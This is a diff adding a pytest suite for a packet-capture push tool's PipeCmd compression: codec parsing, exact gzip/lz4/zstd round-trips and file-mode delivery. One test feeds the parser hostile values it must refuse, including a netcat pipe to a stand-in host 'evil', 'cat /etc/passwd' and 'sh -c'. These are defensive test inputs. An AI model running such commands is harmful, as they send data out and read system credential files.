@@ -1,0 +1,164 @@
+"""PipeCmd compression: every known compressor round-trips to exactly the input bytes.
+
+Decoded twice where possible: with the format's Python library and with the format's own
+command-line tool (the tool FMADIO's users will run on the files), so a stream that only our
+library reads would fail.
+"""
+
+from __future__ import annotations
+
+import gzip
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import lz4.frame
+import pytest
+import zstandard
+from oracle import PCAPS_DIR
+
+from pushcap.config.model import (
+    ConfigError,
+    NamingRule,
+    PushMode,
+    SplitKind,
+    SplitRule,
+    TargetConfig,
+)
+from pushcap.push.compress import (
+    COMPRESS_TMP_SUFFIX,
+    Codec,
+    CompressError,
+    compress_file,
+    parse_pipe_cmd,
+)
+from pushcap.push.ship import make_shipper
+
+PIPE_CMDS = {
+    "gzip -c -1": Codec("gzip", 1),
+    "gzip -c -9": Codec("gzip", 9),
+    "gzip -c": Codec("gzip", 6),
+    "lz4 -c": Codec("lz4", 1),
+    "lz4 -c -9": Codec("lz4", 9),
+    "zstd -c": Codec("zstd", 3),
+    "zstd -c -T0": Codec("zstd", 3, -1),
+    "zstd -c -3 -T0": Codec("zstd", 3, -1),
+    "zstd -c -19 -T2": Codec("zstd", 19, 2),
+}
+SAMPLE = PCAPS_DIR / "viber_mobile.pcap"
+
+
+def decode(codec: str, data: bytes) -> bytes:
+    if codec == "gzip":
+        return gzip.decompress(data)
+    if codec == "lz4":
+        return lz4.frame.decompress(data)
+    return zstandard.ZstdDecompressor().decompressobj().decompress(data)
+
+
+@pytest.mark.parametrize("pipe_cmd", sorted(PIPE_CMDS))
+def test_parse_known_pipe_cmds(pipe_cmd):
+    assert parse_pipe_cmd(pipe_cmd) == PIPE_CMDS[pipe_cmd]
+
+
+@pytest.mark.parametrize("pipe_cmd", [None, "", "cat", "  "])
+def test_no_compression(pipe_cmd):
+    assert parse_pipe_cmd(pipe_cmd) is None
+
+
+@pytest.mark.parametrize("pipe_cmd", ["gzip -c -1 | nc evil 1", "bzip2 -c", "gzip -c -10",
+                                      "lz4 -c -T0", "zstd -c --rm", "cat /etc/passwd", "sh -c"])
+def test_unknown_pipe_cmd_refused(pipe_cmd):
+    with pytest.raises(CompressError, match="PipeCmd"):
+        parse_pipe_cmd(pipe_cmd)
+
+
+@pytest.mark.parametrize("pipe_cmd", sorted(PIPE_CMDS))
+@pytest.mark.parametrize("content", ["pcap", "empty", "random"])
+def test_round_trip_exact(tmp_path, pipe_cmd, content):
+    data = {"pcap": SAMPLE.read_bytes(), "empty": b"", "random": os.urandom(3 << 20)}[content]
+    src, dst = tmp_path / "in.pcap", tmp_path / "out.z"
+    src.write_bytes(data)
+    codec = parse_pipe_cmd(pipe_cmd)
+    written = compress_file(src, dst, codec)
+    packed = dst.read_bytes()
+    assert written == len(packed)
+    assert decode(codec.name, packed) == data
+    if content == "pcap":
+        assert len(packed) < len(data)
+
+
+@pytest.mark.parametrize("pipe_cmd", ["gzip -c -1", "lz4 -c", "zstd -c -T0"])
+def test_command_line_tool_reads_it(tmp_path, pipe_cmd):
+    codec = parse_pipe_cmd(pipe_cmd)
+    tool = shutil.which(codec.name)
+    if tool is None:
+        pytest.skip(f"{codec.name} command-line tool not installed")
+    src, dst = tmp_path / "in.pcap", tmp_path / "out.z"
+    shutil.copy(SAMPLE, src)
+    compress_file(src, dst, codec)
+    out = subprocess.run([tool, "-dc", str(dst)], capture_output=True, check=True).stdout
+    assert out == SAMPLE.read_bytes()
+
+
+def test_failed_compression_leaves_no_output(tmp_path):
+    src, dst = tmp_path / "in.pcap", tmp_path / "out.gz"
+    src.write_bytes(b"x" * 1000)
+    with pytest.raises(ValueError):
+        compress_file(src, dst, Codec("gzip", 42))  # zlib refuses the level after dst exists
+    assert not dst.exists()
+
+
+def file_target(pipe_cmd: str | None, suffix: str, desc: str = "t1") -> TargetConfig:
+    return TargetConfig(index=1, desc=desc, mode=PushMode.FILE, path="unused",
+                        split=SplitRule(SplitKind.TIME, 60 * 10**9),
+                        naming=NamingRule("--filename-epoch-sec-startend"), pipe_cmd=pipe_cmd,
+                        file_suffix=suffix)
+
+
+@pytest.mark.parametrize("pipe_cmd,suffix", [("gzip -c -1", ".pcap.gz"), ("lz4 -c", ".pcap.lz4"),
+                                             ("zstd -c -T0", ".pcap.zstd"), (None, ".pcap"),
+                                             ("cat", ".pcap")])
+def test_file_mode_publishes_with_suffix(tmp_path, pipe_cmd, suffix):
+    prefix = tmp_path / "push" / "all"
+    shipper = make_shipper(file_target(pipe_cmd, suffix), prefix)
+    part = tmp_path / "push" / ".all.1616334655000000000.part"
+    part.parent.mkdir()
+    shutil.copy(SAMPLE, part)
+    final = shipper.deliver(part, "1616334655-1616334755")
+    assert final == tmp_path / "push" / f"all_1616334655-1616334755{suffix}"
+    assert sorted(p.name for p in prefix.parent.iterdir()) == [final.name]  # no part, no .ztmp
+    codec = parse_pipe_cmd(pipe_cmd)
+    body = final.read_bytes()
+    assert (decode(codec.name, body) if codec else body) == SAMPLE.read_bytes()
+    # a second file of the same name is never overwritten
+    shutil.copy(SAMPLE, part)
+    second = shipper.deliver(part, "1616334655-1616334755")
+    assert second.name == f"all_1616334655-1616334755_2{suffix}"
+    assert shipper.stats() == {"files_published": 2}
+
+
+def test_file_mode_removes_stale_compression_temporaries(tmp_path):
+    stale = tmp_path / f".all.1616334655000000000.part{COMPRESS_TMP_SUFFIX}"
+    other = tmp_path / f".other.1616334655000000000.part{COMPRESS_TMP_SUFFIX}"
+    stale.write_bytes(b"half")
+    other.write_bytes(b"not ours")
+    shipper = make_shipper(file_target("gzip -c -1", ".pcap.gz"), tmp_path / "all")
+    assert stale.exists()  # building a shipper (pushcap check) touches nothing
+    shipper.start()
+    assert not stale.exists() and other.exists()
+
+
+def test_unknown_pipe_cmd_names_the_target(tmp_path):
+    with pytest.raises(ConfigError, match='target 1 "t1": PipeCmd "xz -c"'):
+        make_shipper(file_target("xz -c", ".pcap.xz"), tmp_path / "all")
+
+
+def test_compressed_name_is_hidden_from_series_globs(tmp_path):
+    # Series.repair_leftovers globs `.<base>.*.part`: the compressed temporary must not match
+    part = tmp_path / ".all.1.part"
+    assert not list(Path(tmp_path).glob(".all.*.part"))
+    tmp = part.with_name(part.name + COMPRESS_TMP_SUFFIX)
+    tmp.write_bytes(b"")
+    assert not list(Path(tmp_path).glob(".all.*.part"))
